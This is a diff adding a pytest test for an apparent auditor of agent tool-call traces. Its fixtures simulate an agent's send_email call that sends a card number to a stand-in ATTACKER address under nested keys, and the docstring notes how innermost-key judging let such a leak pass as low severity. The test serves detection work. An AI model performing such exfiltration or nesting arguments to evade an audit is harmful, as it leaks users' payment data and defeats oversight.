@@ -98,3 +98,23 @@ def test_a_copy_to_an_attacker_is_a_destination_too(jsonl, tmp_path):
     for sinks in (spec, None):  # declared, and heuristic
         findings = audit(jsonl(lookup_then(*copied)), ["dataflow"], sinks=sinks).findings
         assert [f.evidence["sink"]["destination"] for f in findings] == [ATTACKER], sinks
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        {"to": {"a": [ATTACKER]}, "body": {"x": [1, {"y": CARD}]}},  # keys nested under both
+        {"message": {"body": {"content": CARD}, "toRecipients": [{"address": ATTACKER}]}},
+        {"recipients": [{"name": "Drop", "email": ATTACKER}], "text": f"card {CARD}"},
+    ],
+)
+def test_nested_arguments_are_judged_by_the_nearest_key_that_says(jsonl, arguments):
+    """A destination or a payload nested under keys of no meaning (``to.a[0]``,
+    ``body.x[1].y``) is what its nearest meaningful key says: the card leaves to the
+    attacker. Judged by the innermost key alone, the card read as a destination and the
+    call as a low-severity send (a guard bypass)."""
+    leak = [call("send_email", arguments, "c5"), result("send_email", "sent", "c5")]
+    findings = audit(jsonl(lookup_then(*leak)), ["dataflow"]).findings
+    assert [(f.severity, f.evidence["sink"]["destination"]) for f in findings] == [
+        ("high", ATTACKER)
+    ], findings
